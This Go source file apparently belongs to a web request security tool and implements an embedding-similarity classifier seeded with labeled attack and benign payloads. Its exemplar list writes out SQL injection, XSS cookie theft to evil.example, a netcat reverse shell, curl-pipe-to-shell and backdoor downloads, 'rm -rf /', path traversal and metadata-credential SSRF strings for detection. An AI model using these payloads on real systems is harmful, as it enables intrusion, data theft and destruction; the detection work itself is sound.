package ml

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"os"
	"strings"
	"sync"

	chromem "github.com/philippgille/chromem-go"

	"github.com/TryMightyAI/warden/pkg/config"
	"github.com/TryMightyAI/warden/pkg/httputil"
)

// ExemplarPayload is a labeled request payload used for similarity search.
type ExemplarPayload struct {
	Text     string
	Category string
	Severity float32 // 0.0-1.0: how dangerous payloads of this shape are
}

// SemanticClassifier scores fragments by embedding similarity against a
// corpus of known attack and benign payloads. It catches paraphrased or
// lightly mutated payloads that exact patterns miss.
type SemanticClassifier struct {
	db         *chromem.DB
	collection *chromem.Collection
	threshold  float32 // similarity needed to call a fragment malicious
	docCount   int
	mu         sync.RWMutex
	ready      bool
}

// NewSemanticClassifier creates a classifier backed by the given embedding
// function. The classifier reports not-ready until SeedExemplars runs.
func NewSemanticClassifier(embed chromem.EmbeddingFunc) (*SemanticClassifier, error) {
	if embed == nil {
		return nil, fmt.Errorf("embedding function is nil")
	}

	db := chromem.NewDB()
	collection, err := db.CreateCollection("request_payloads", nil, embed)
	if err != nil {
		return nil, fmt.Errorf("failed to create collection: %w", err)
	}

	threshold := float32(config.GetEnvFloat("WARDEN_SEMANTIC_THRESHOLD", 0.65))
	return &SemanticClassifier{
		db:         db,
		collection: collection,
		threshold:  threshold,
		ready:      false,
	}, nil
}

// NewSemanticClassifierFromEnv builds and seeds a classifier from the
// WARDEN_EMBEDDINGS_URL endpoint. Returns nil when no endpoint is
// configured or seeding fails, so callers can fall through to other
// classifiers.
func NewSemanticClassifierFromEnv(ctx context.Context) *SemanticClassifier {
	baseURL := os.Getenv("WARDEN_EMBEDDINGS_URL")
	if baseURL == "" {
		return nil
	}
	model := config.GetEnv("WARDEN_EMBEDDINGS_MODEL", "embeddinggemma")

	sc, err := NewSemanticClassifier(newRemoteEmbeddingFunc(model, baseURL))
	if err != nil {
		fmt.Fprintf(os.Stderr, "[WARN] Semantic classifier init failed: %v\n", err)
		return nil
	}
	if err := sc.SeedExemplars(ctx); err != nil {
		fmt.Fprintf(os.Stderr, "[WARN] Semantic exemplar seeding failed: %v\n", err)
		return nil
	}
	fmt.Fprintf(os.Stderr, "[INFO] Semantic classifier using embeddings at %s (model %s)\n", baseURL, model)
	return sc
}

// newRemoteEmbeddingFunc creates an embedding function for an
// Ollama-compatible /api/embeddings endpoint.
func newRemoteEmbeddingFunc(model, baseURL string) chromem.EmbeddingFunc {
	client := httputil.SlowClient()

	return func(ctx context.Context, text string) ([]float32, error) {
		reqBody := map[string]string{
			"model":  model,
			"prompt": text,
		}
		jsonData, err := json.Marshal(reqBody)
		if err != nil {
			return nil, fmt.Errorf("failed to marshal request: %w", err)
		}

		req, err := http.NewRequestWithContext(ctx, "POST", baseURL+"/api/embeddings", bytes.NewBuffer(jsonData))
		if err != nil {
			return nil, fmt.Errorf("failed to create request: %w", err)
		}
		req.Header.Set("Content-Type", "application/json")

		resp, err := client.Do(req)
		if err != nil {
			return nil, fmt.Errorf("request failed: %w", err)
		}
		defer httputil.DrainAndClose(resp.Body)

		if resp.StatusCode != http.StatusOK {
			body, _ := httputil.ReadErrorBody(resp.Body)
			return nil, fmt.Errorf("embedding endpoint returned %d: %s", resp.StatusCode, string(body))
		}

		var result struct {
			Embedding []float32 `json:"embedding"`
		}
		if err := json.NewDecoder(resp.Body).Decode(&result); err != nil {
			return nil, fmt.Errorf("failed to decode response: %w", err)
		}
		return result.Embedding, nil
	}
}

// SeedExemplars loads the builtin labeled payload corpus into the vector
// store and marks the classifier ready.
func (sc *SemanticClassifier) SeedExemplars(ctx context.Context) error {
	return sc.SeedWith(ctx, builtinExemplars())
}

// SeedWith loads a custom exemplar corpus. Useful for deployments with
// their own labeled traffic.
func (sc *SemanticClassifier) SeedWith(ctx context.Context, exemplars []ExemplarPayload) error {
	sc.mu.Lock()
	defer sc.mu.Unlock()

	if len(exemplars) == 0 {
		return fmt.Errorf("no exemplars to seed")
	}

	docs := make([]chromem.Document, len(exemplars))
	for i, e := range exemplars {
		docs[i] = chromem.Document{
			ID:      fmt.Sprintf("exemplar_%d", i),
			Content: e.Text,
			Metadata: map[string]string{
				"category": e.Category,
				"severity": fmt.Sprintf("%.2f", e.Severity),
			},
		}
	}

	// One worker: embedding endpoints tend to be the bottleneck, and
	// seeding happens once at startup anyway.
	if err := sc.collection.AddDocuments(ctx, docs, 1); err != nil {
		return fmt.Errorf("failed to add exemplars: %w", err)
	}

	sc.docCount = len(docs)
	sc.ready = true
	fmt.Fprintf(os.Stderr, "[INFO] Seeded %d payload exemplars into semantic index\n", len(docs))
	return nil
}

// Classify implements the Classifier capability via nearest-exemplar
// lookup.
func (sc *SemanticClassifier) Classify(ctx context.Context, content string) (Verdict, error) {
	sc.mu.RLock()
	defer sc.mu.RUnlock()

	if !sc.ready {
		return Verdict{}, ErrClassifierUnavailable
	}

	// Fragment content is already canonicalized, but Classify is also a
	// public capability; lowercase defensively for embedding stability.
	queryText := strings.ToLower(content)

	n := 3
	if sc.docCount < n {
		n = sc.docCount
	}
	results, err := sc.collection.Query(ctx, queryText, n, nil, nil)
	if err != nil {
		return Verdict{}, fmt.Errorf("query failed: %w", err)
	}

	if len(results) == 0 {
		return Verdict{Category: NormalCategory, Confidence: 0.95}, nil
	}

	best := results[0]
	category := best.Metadata["category"]
	similarity := float64(best.Similarity)

	if category == "benign" {
		return Verdict{Category: NormalCategory, Confidence: similarity}, nil
	}
	if best.Similarity >= sc.threshold {
		return Verdict{
			Category:   "malicious(" + category + ")",
			Confidence: similarity,
		}, nil
	}
	// Nearest attack exemplar was below threshold. Report Normal with
	// confidence shrinking as the miss gets closer.
	return Verdict{Category: NormalCategory, Confidence: 1.0 - similarity}, nil
}

// IsReady reports whether the exemplar corpus has been seeded.
func (sc *SemanticClassifier) IsReady() bool {
	sc.mu.RLock()
	defer sc.mu.RUnlock()
	return sc.ready
}

// SetThreshold updates the similarity threshold.
func (sc *SemanticClassifier) SetThreshold(t float32) {
	sc.mu.Lock()
	defer sc.mu.Unlock()
	sc.threshold = t
}

// ExemplarCount returns the number of seeded exemplars.
func (sc *SemanticClassifier) ExemplarCount() int {
	sc.mu.RLock()
	defer sc.mu.RUnlock()
	return sc.docCount
}

var (
	cachedExemplars     []ExemplarPayload
	cachedExemplarsOnce sync.Once
)

// builtinExemplars returns the curated payload corpus. Attack categories
// mirror the pattern registry so fused verdicts stay consistent across
// classifier backends; benign entries prevent false positives on ordinary
// traffic shapes.
func builtinExemplars() []ExemplarPayload {
	cachedExemplarsOnce.Do(func() {
		cachedExemplars = []ExemplarPayload{
			// === SQL INJECTION ===
			{"' or 1=1--", "sql_injection", 1.0},
			{"' or 'a'='a", "sql_injection", 0.95},
			{"admin'--", "sql_injection", 0.9},
			{"1' union select username, password from users--", "sql_injection", 1.0},
			{"union select null, null, null from information_schema.tables", "sql_injection", 0.95},
			{"1; drop table users", "sql_injection", 1.0},
			{"' and sleep(5)--", "sql_injection", 0.95},
			{"'; waitfor delay '0:0:5'--", "sql_injection", 0.95},
			{"1' order by 10--", "sql_injection", 0.8},
			{"select @@version", "sql_injection", 0.8},

			// === CROSS-SITE SCRIPTING ===
			{"<script>alert(document.cookie)</script>", "xss", 1.0},
			{"<img src=x onerror=alert(1)>", "xss", 0.95},
			{"<svg onload=alert(1)>", "xss", 0.95},
			{"javascript:alert(document.domain)", "xss", 0.9},
			{"\"><script>fetch('//evil.example/c?'+document.cookie)</script>", "xss", 1.0},
			{"<iframe src=javascript:alert(1)>", "xss", 0.9},
			{"<body onload=document.location='http://evil.example'>", "xss", 0.95},

			// === COMMAND INJECTION ===
			{"; cat /etc/passwd", "command_injection", 1.0},
			{"| nc attacker.example 4444 -e /bin/sh", "command_injection", 1.0},
			{"$(curl http://evil.example/x.sh | sh)", "command_injection", 1.0},
			{"`id`", "command_injection", 0.85},
			{"&& rm -rf /", "command_injection", 1.0},
			{"; wget http://evil.example/backdoor -o /tmp/b; chmod +x /tmp/b", "command_injection", 1.0},
			{"127.0.0.1; ping -c 10 evil.example", "command_injection", 0.9},

			// === PATH TRAVERSAL ===
			{"../../../etc/passwd", "path_traversal", 1.0},
			{"..%2f..%2f..%2fetc%2fshadow", "path_traversal", 1.0},
			{"....//....//etc/passwd", "path_traversal", 0.95},
			{"/var/www/../../etc/passwd", "path_traversal", 0.9},
			{"..\\..\\windows\\system32\\config\\sam", "path_traversal", 0.95},

			// === SSRF ===
			{"http://169.254.169.254/latest/meta-data/iam/security-credentials/", "ssrf", 1.0},
			{"http://localhost:6379/", "ssrf", 0.85},
			{"http://127.0.0.1:8080/admin", "ssrf", 0.85},
			{"file:///etc/passwd", "ssrf", 0.95},
			{"gopher://127.0.0.1:25/", "ssrf", 0.9},
			{"http://192.168.1.1/router/config", "ssrf", 0.8},

			// === BENIGN (False Positive Prevention) ===
			{"/api/v1/users/42/profile", "benign", 0.0},
			{"search?q=red+running+shoes&page=2", "benign", 0.0},
			{"{\"email\": \"user@example.com\", \"name\": \"jane\"}", "benign", 0.0},
			{"mozilla/5.0 (windows nt 10.0; win64; x64) applewebkit/537.36", "benign", 0.0},
			{"/static/css/main.2f1a9c.css", "benign", 0.0},
			{"order id 1001 status shipped tracking number 1z999", "benign", 0.0},
			{"{\"title\": \"weekly report\", \"tags\": [\"sales\", \"q3\"]}", "benign", 0.0},
			{"session=abc123; theme=dark; lang=en-us", "benign", 0.0},
		}
	})
	return cachedExemplars
}
